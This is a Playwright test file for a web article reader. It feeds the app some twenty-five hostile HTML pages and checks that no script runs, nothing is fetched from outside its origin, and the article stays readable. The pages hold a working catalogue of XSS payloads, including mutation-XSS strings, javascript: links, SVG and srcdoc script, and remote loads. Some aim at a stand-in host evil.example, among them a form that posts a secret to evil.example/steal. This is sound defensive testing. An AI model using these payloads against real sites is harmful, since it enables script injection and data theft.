import { writeFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { AppPage } from './pages/app-page.js';
import { makeLibraryFolder, startWebShell, type WebShell } from './support/web-shell.js';

// Hostile pages, imported through the UI twice (pasted as HTML, and as a chosen .html file). Each
// page tries to run script (which would set the trap `window.__pwned`), to make the browser fetch
// from elsewhere, or to navigate away. For each: the trap stays unset, every request the page
// attempts goes to our web shell (or is data:/blob:), and the article can still be read.
// The remote host does not exist and there is no network here, so what is checked is the attempt:
// Playwright's request event fires before a request fails.

const EVIL = 'http://evil.example';
const SVG_WITH_SCRIPT = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned='svg-data-onload'"><script>top.__pwned='svg-data'</script><image href="${EVIL}/svg-image.png"/></svg>`,
).toString('base64');

interface HostilePage {
  name: string;
  /** Markup placed in <head>. */
  head?: string;
  /** Markup placed in <body>, between the readable paragraphs. */
  body: string;
  /** Text of a link the test clicks, as a reader might. */
  click?: string;
}

const PAGES: HostilePage[] = [
  { name: 'script tags', head: `<script>window.__pwned = 'head-script'</script><script src="${EVIL}/head.js"></script>`, body: `<script>window.__pwned = 'body-script'</script><script type="module">window.__pwned = 'module'</script>` },
  { name: 'inline event handlers', body: `<img src="x" onerror="window.__pwned='onerror'"><p onclick="window.__pwned='onclick'" onmouseover="window.__pwned='onmouseover'">Hover and click here.</p><details open ontoggle="window.__pwned='ontoggle'"><summary>More</summary>Details.</details><input autofocus onfocus="window.__pwned='onfocus'">` },
  { name: 'body onload', head: `</head><body onload="window.__pwned='body-onload'" onpageshow="window.__pwned='pageshow'">`, body: '' },
  { name: 'javascript: links', body: `<p><a href="javascript:window.__pwned='js-link'">Read the source</a> and <a href="JaVaScRiPt&colon;window.__pwned='js-entity'">the other one</a>.</p>`, click: 'Read the source' },
  { name: 'link with ping and a new window', body: `<p><a href="https://example.org/story" ping="${EVIL}/ping" target="_blank">Follow the story</a></p>`, click: 'Follow the story' },
  { name: 'data: HTML link', body: `<p><a href="data:text/html;base64,${Buffer.from("<script>opener.__pwned='data-link'</script>").toString('base64')}" target="_blank">Open the document</a></p>`, click: 'Open the document' },
  { name: 'inline SVG with script', body: `<svg><script>window.__pwned='inline-svg'</script><circle r="5" onload="window.__pwned='svg-onload'"/><animate onbegin="window.__pwned='animate'" attributeName="x" dur="1s"/><a href="javascript:window.__pwned='svg-link'"><text>svg link</text></a><image href="${EVIL}/inline-svg.png"/></svg>` },
  { name: 'SVG with script as a data: image', body: `<img src="data:image/svg+xml;base64,${SVG_WITH_SCRIPT}" alt="chart"><object data="data:image/svg+xml;base64,${SVG_WITH_SCRIPT}"></object>` },
  { name: 'iframes and srcdoc', body: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.__pwned='srcdoc'</script><img src='${EVIL}/srcdoc.png'>"></iframe><iframe src="javascript:parent.__pwned='iframe-js'"></iframe>` },
  { name: 'meta refresh', head: `<meta http-equiv="refresh" content="0; url=${EVIL}/refreshed">`, body: `<meta http-equiv="refresh" content="0; url=javascript:window.__pwned='refresh'">` },
  { name: 'remote stylesheet', head: `<link rel="stylesheet" href="${EVIL}/style.css"><link rel="stylesheet" href="//evil.example/protocol-relative.css">`, body: '' },
  { name: '@import and url() in <style>', head: `<style>@import url("${EVIL}/import.css"); @import '${EVIL}/import2.css'; body { background: url(${EVIL}/body-bg.png) } p::after { content: url(${EVIL}/after.png) }</style>`, body: `<style>li { list-style-image: url(${EVIL}/bullet.png) }</style><ul><li>one</li><li>two</li></ul>` },
  { name: 'remote fonts', head: `<style>@font-face { font-family: Tracker; src: url(${EVIL}/font.woff2) format("woff2"), url(${EVIL}/font.ttf) } p { font-family: Tracker }</style><link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto">`, body: '' },
  { name: '<base href> tricks', head: `<base href="${EVIL}/base/">`, body: `<p><img src="relative.png" alt="relative image"><a href="relative-link">a relative link</a></p><base href="javascript:window.__pwned='base'//">` },
  { name: 'form actions', body: `<form action="${EVIL}/steal" method="post"><input name="q" value="secret"><button>Send the form</button></form><form><button formaction="javascript:window.__pwned='formaction'">Second button</button></form><isindex action="${EVIL}/isindex">` },
  { name: 'object and embed', body: `<object data="${EVIL}/movie.swf" type="application/x-shockwave-flash"><param name="movie" value="${EVIL}/param.swf"></object><embed src="${EVIL}/embed.swf"><applet code="Evil" codebase="${EVIL}/"></applet>` },
  { name: 'CSS that fetches in style attributes', body: `<div style="background-image: url(${EVIL}/style-attr.png); behavior: url(${EVIL}/x.htc)">Styled text.</div><p style="background: url('${EVIL}/p-bg.png')">Styled paragraph.</p><table background="${EVIL}/table-bg.png"><tr><td background="${EVIL}/td-bg.png">cell</td></tr></table>` },
  { name: 'remote images with srcset', body: `<img src="${EVIL}/img.png" srcset="${EVIL}/img-2x.png 2x, ${EVIL}/img-3x.png 3x" alt="remote"><picture><source srcset="${EVIL}/picture.webp" type="image/webp"><img src="${EVIL}/picture.png" alt="picture"></picture><input type="image" src="${EVIL}/input.png"><img loading="lazy" src="${EVIL}/lazy.png">` },
  { name: 'video and audio with remote sources', body: `<video src="${EVIL}/v.mp4" poster="${EVIL}/poster.png" autoplay muted><source src="${EVIL}/v.webm"><track src="${EVIL}/captions.vtt" default></video><audio src="${EVIL}/a.mp3" autoplay><source src="${EVIL}/a.ogg"></audio>` },
  { name: 'prefetch, preload, dns-prefetch and preconnect', head: `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="preload" href="${EVIL}/preload.js" as="script"><link rel="dns-prefetch" href="//dns.evil.example"><link rel="preconnect" href="${EVIL}"><link rel="modulepreload" href="${EVIL}/m.js"><link rel="icon" href="${EVIL}/favicon.ico"><link rel="manifest" href="${EVIL}/manifest.json">`, body: '' },
  { name: 'noscript tricks', body: `<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></p></noscript><noscript><img src="${EVIL}/noscript.png"></noscript>` },
  { name: 'mutation XSS', body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=window.__pwned='mxss-math'&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=window.__pwned='mxss-svg'>"></svg><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned='mxss-form' src>"></style></mtext></svg></mglyph></form></mtext></math>` },
  { name: 'template and shadow DOM', body: `<template><img src="x" onerror="window.__pwned='template'"><script>window.__pwned='template-script'</script></template><div><template shadowrootmode="open"><img src="${EVIL}/shadow.png" onerror="window.__pwned='shadow'"><style>@import '${EVIL}/shadow.css'</style><slot></slot></template>Shadow host text.</div>` },
  { name: 'markup that is text, and attributes that break out', body: `<p>As text: &lt;img src=x onerror="window.__pwned='escaped'"&gt; and &lt;script&gt;window.__pwned='escaped-script'&lt;/script&gt;</p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt='"><img src=x onerror=window.__pwned="alt">' title="x&quot; onmouseover=&quot;window.__pwned='title'"><a href="https://example.org/&quot;&gt;&lt;script&gt;window.__pwned='href'&lt;/script&gt;">quoted href</a>` },
  { name: 'embedded HTML and XML oddities', head: `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="rn=evil">`, body: `<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__pwned='xml'</x:script></xml><portal src="${EVIL}/portal"></portal><frameset><frame src="${EVIL}/frame-element"></frameset><marquee onstart="window.__pwned='marquee'">scrolling</marquee><keygen autofocus onfocus="window.__pwned='keygen'">` },
];

/** The page as an article: a title, a few readable paragraphs with a known sentence, the payload between them. */
function hostileHtml(page: HostilePage, index: number): { html: string; title: string; sentence: string } {
  const title = `Hostile page ${String(index + 1).padStart(2, '0')}: ${page.name}`;
  const sentence = `Harbour report ${index + 1}: the ferry from Kessab arrived at dawn with forty passengers and two tonnes of grain.`;
  const filler = 'The port authority said the crossing was calm, the crew followed the new schedule, and the cargo was unloaded before the market opened in the old town.';
  const escapedTitle = title.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  const html = [
    '<!doctype html><html><head><meta charset="utf-8">',
    `<title>${escapedTitle}</title>`,
    page.head ?? '',
    '</head><body><article>',
    `<h1>${escapedTitle}</h1>`,
    `<p>${sentence} ${filler}</p>`,
    page.body,
    `<p>${filler} Officials expect the next ferry on Thursday, weather permitting, and more grain next week.</p>`,
    `<p>Traders at the market welcomed the news. ${filler}</p>`,
    '</article></body></html>',
  ].join('\n');
  return { html, title, sentence };
}

let shell: WebShell | undefined;

test.afterEach(async () => {
  await shell?.stop();
  shell = undefined;
});

interface Watched {
  requests: string[];
  popups: string[];
  /** For each URL whose request failed: whether the page's Content-Security-Policy refused it. */
  blockedByPolicy: Map<string, boolean>;
}

/** Collects every request any page of the context makes, and every popup it opens. */
function watchContext(page: Page): Watched {
  const watched: Watched = { requests: [], popups: [], blockedByPolicy: new Map() };
  page.context().on('request', (request) => watched.requests.push(request.url()));
  page.context().on('requestfailed', (request) => {
    const blocked = /^csp$|ERR_BLOCKED_BY_CSP/i.test(request.failure()?.errorText ?? '');
    // One URL asked for twice counts as blocked only if every attempt was.
    watched.blockedByPolicy.set(request.url(), blocked && watched.blockedByPolicy.get(request.url()) !== false);
  });
  page.context().on('page', (popup) => watched.popups.push(popup.url()));
  return watched;
}

async function expectUnharmed(app: AppPage, origin: string, watched: Watched, sentence: string): Promise<void> {
  await expect(app.article).toContainText(sentence);
  const page = app.page;
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(page.url().startsWith(`${origin}/`), page.url()).toBe(true);
  expect(page.frames()).toHaveLength(1);
  expect(watched.popups).toEqual([]);
  const leaving = watched.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:'));
  expect(leaving).toEqual([]);
}

/**
 * "View as captured" shows the kept file byte for byte, payload and all, in a frame the web shell
 * serves sandboxed: its text shows, and still no script runs in any frame, no popup opens and no
 * request leaves (a navigation of the frame away would be a request too).
 */
async function expectCapturedViewUnharmed(app: AppPage, origin: string, watched: Watched, hostile: HostilePage, sentence: string): Promise<void> {
  const page = app.page;
  await app.article.getByRole('button', { name: 'Evidence' }).click();
  const dialog = page.getByRole('dialog', { name: 'Evidence' });
  await dialog.getByRole('button', { name: 'View as captured' }).click();
  const viewing = page.getByRole('dialog', { name: 'As captured' });
  const frame = page.frameLocator('iframe.evidence-frame');
  await expect(frame.getByText(sentence)).toBeVisible();
  if (hostile.click) await frame.getByText(hostile.click).first().click({ timeout: 2_000 }).catch(() => undefined);
  await page.waitForTimeout(300);
  for (const each of page.frames()) {
    // A frame the policy refused has no document to evaluate in; waiting on it would never end.
    const read = each.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned).catch(() => undefined);
    const trap = await Promise.race([read, new Promise((resolve) => setTimeout(resolve, 1_000, undefined))]);
    expect(trap, each.url()).toBeUndefined();
  }
  expect(page.url().startsWith(`${origin}/`), page.url()).toBe(true);
  expect(watched.popups).toEqual([]);
  expect(watched.requests.some((url) => url.startsWith(`${origin}/captured/`))).toBe(true);
  // Chromium reports a load its policy blocked as a request that failed with reason "csp",
  // before anything is sent: such an attempt is the policy at work. Any other attempt is a leak.
  await page.waitForTimeout(200);
  const leaving = watched.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:'));
  expect(leaving.filter((url) => watched.blockedByPolicy.get(url) !== true)).toEqual([]);
  // Escape pressed inside the frame stays in the frame's document, so the button closes it.
  await viewing.getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
}

for (const [index, hostile] of PAGES.entries()) {
  test(`hostile page ${index + 1}, ${hostile.name}: no script runs, nothing is fetched from elsewhere, the article reads, in the reader and as captured`, async ({ page }, testInfo) => {
    const library = await makeLibraryFolder();
    shell = await startWebShell(library);
    const origin = new URL(shell.url).origin;
    const watched = watchContext(page);
    const app = new AppPage(page);
    const { html, title, sentence } = hostileHtml(hostile, index);
    await app.goto(shell.url);

    await test.step('pasted as HTML', async () => {
      await app.importByPasting(html);
      await expect(app.library.getByRole('listitem')).toHaveCount(1);
      await expect(app.article.getByRole('heading', { name: title })).toBeVisible();
      if (hostile.click) await app.article.getByText(hostile.click).first().click();
      await expectUnharmed(app, origin, watched, sentence);
    });

    await test.step('chosen as an .html file', async () => {
      const file = testInfo.outputPath(`hostile-${index + 1}.html`);
      // Other bytes than the pasted copy: the same bytes would be offered as a duplicate.
      await writeFile(file, `${html}\n`);
      await app.importFile(file);
      await expect(app.library.getByRole('listitem')).toHaveCount(2);
      await app.openArticle(title);
      if (hostile.click) await app.article.getByText(hostile.click).first().click();
      await expectUnharmed(app, origin, watched, sentence);
    });

    await test.step('the kept file, viewed as captured', async () => {
      await expectCapturedViewUnharmed(app, origin, watched, hostile, sentence);
    });

    // Some of the requests must have been ours, or the listener saw nothing at all.
    expect(watched.requests.some((url) => url.startsWith(`${origin}/api/importArticle`))).toBe(true);
  });
}

test('the hostile pages are at least twenty, each with its trap', () => {
  expect(PAGES.length).toBeGreaterThanOrEqual(20);
  for (const [index, hostile] of PAGES.entries()) {
    // Payloads inside base64 data: URLs count too.
    const html = hostileHtml(hostile, index).html.replace(/base64,([A-Za-z0-9+/=]+)/g, (_match, encoded: string) => Buffer.from(encoded, 'base64').toString('utf8'));
    expect(/__pwned|evil\.example|fonts\.googleapis/.test(html), hostile.name).toBe(true);
  }
});

test('the request watcher sees an attempt to an unreachable host (control)', async ({ page }) => {
  const watched = watchContext(page);
  // about:blank has no policy, so the browser does try; the host does not resolve, and the event still fires.
  await page.goto('about:blank');
  await page.evaluate((url) => {
    new Image().src = url;
  }, `${EVIL}/control.png`);
  await expect.poll(() => watched.requests).toContain(`${EVIL}/control.png`);
});
